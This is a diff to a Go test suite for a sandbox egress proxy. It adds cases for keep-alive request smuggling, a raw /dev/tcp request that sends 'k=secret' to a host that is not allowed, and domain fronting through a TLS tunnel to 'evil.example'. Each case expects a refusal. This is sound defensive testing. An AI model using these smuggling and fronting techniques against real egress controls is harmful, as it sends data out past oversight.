@@ -108,10 +108,31 @@ func editSandboxNetwork(t *testing.T, w *editWorld) {
 		{"git's ssh goes through the proxy",
 			`echo "$GIT_SSH_COMMAND"`, []string{"ssh -o ProxyCommand=", "sandbox --proxy-connect %h %p"}},
 		{"ssh's ProxyCommand tunnels to an allowed host and port",
-			fmt.Sprintf("echo over-the-tunnel | %s sandbox --proxy-connect %s %s", w.bin, echoHost, echoPort), []string{"echo: over-the-tunnel"}},
+			// An SSH client's first bytes are its banner: a tunnel carries SSH, TLS or HTTP only.
+			fmt.Sprintf("echo SSH-2.0-over-the-tunnel | %s sandbox --proxy-connect %s %s", w.bin, echoHost, echoPort), []string{"echo: SSH-2.0-over-the-tunnel"}},
 		{"ssh's ProxyCommand to a host that is not allowed",
 			fmt.Sprintf("%s sandbox --proxy-connect evil.example 22; echo status $?", w.bin),
 			[]string{"the egress proxy refused evil.example:22 (HTTP/1.1 403 Forbidden: not an allowed host)", "status 3"}},
+		// Issue 24: the proxy judges every request on a connection, and what a tunnel carries.
+		{"keep-alive: curl's second URL, on the same connection to the proxy, to a host that is not allowed",
+			fmt.Sprintf("curl -sS --noproxy '' http://%s/first http://%s/second; echo", allowed.addr, other.addr),
+			[]string{"served /first", "127.0.0.1:" + otherPort + " was refused (not an allowed host)"}},
+		{"keep-alive: the issue's bytes, a second request naming another Host",
+			fmt.Sprintf(`p=${HTTP_PROXY#http://}; p=${p%%/}; exec 3<>/dev/tcp/${p%%:*}/${p##*:}; `+
+				`printf 'GET http://%[1]s/ok HTTP/1.1\r\nHost: %[1]s\r\n\r\nGET /collect?k=secret HTTP/1.1\r\nHost: %[2]s\r\n\r\n' >&3; timeout 3 cat <&3`,
+				allowed.addr, other.addr),
+			[]string{"served /ok", "X-Hookctl-Refused: a proxy request names an absolute http:// URL"}},
+		{"a TLS ClientHello through a tunnel to the allowed host, naming another (domain fronting)",
+			`python3 -c "
+import os, socket, ssl
+p = os.environ['HTTPS_PROXY'].split('//')[1].rstrip('/').split(':')
+s = socket.create_connection((p[0], int(p[1])), 5)
+s.sendall(b'CONNECT ` + allowed.addr + ` HTTP/1.1\r\n\r\n'); print(s.recv(100).split(b'\r\n')[0].decode())
+try:
+    ssl.create_default_context().wrap_socket(s, server_hostname='evil.example'); print('handshake')
+except Exception as e: print('failed', type(e).__name__)
+" 2>&1`,
+			[]string{"HTTP/1.1 200 Connection established", "failed", `names "evil.example"`}},
 		{"a proxy variable the command sets is only a way to the same proxy",
 			fmt.Sprintf("HTTPS_PROXY=http://%[1]s https_proxy=http://%[1]s curl -sS -m 5 https://evil.example/; echo status $?", other.addr), []string{"status 7"}},
 	} {
@@ -125,8 +146,8 @@ func editSandboxNetwork(t *testing.T, w *editWorld) {
 	if n := other.hits.Load(); n != 0 {
 		t.Errorf("the server that is not allowed was reached %d times", n)
 	}
-	if n := allowed.hits.Load(); n != 3 {
-		t.Errorf("the allowed server was reached %d times, want 3", n)
+	if n := allowed.hits.Load(); n != 5 {
+		t.Errorf("the allowed server was reached %d times, want 5", n)
 	}
 	// The audit has each command's connections: the allowed host with its rule, the refusals
 	// with their reasons.
